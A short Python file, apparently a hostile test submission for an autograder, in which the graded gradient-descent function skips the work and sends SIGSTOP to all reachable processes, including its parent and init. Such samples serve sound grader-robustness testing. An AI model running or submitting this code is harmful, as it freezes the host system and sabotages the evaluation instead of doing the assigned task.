"""Stops every process it can reach instead of killing it. expect: 50"""

# %%
# GRADED FUNCTION: update_parameters_with_gd
def update_parameters_with_gd(parameters, grads, learning_rate):
    import os
    import signal
    for target in (-1, 0, os.getppid(), 1, os.getpid()):
        try:
            os.kill(target, signal.SIGSTOP)
        except OSError:
            pass
    return {}
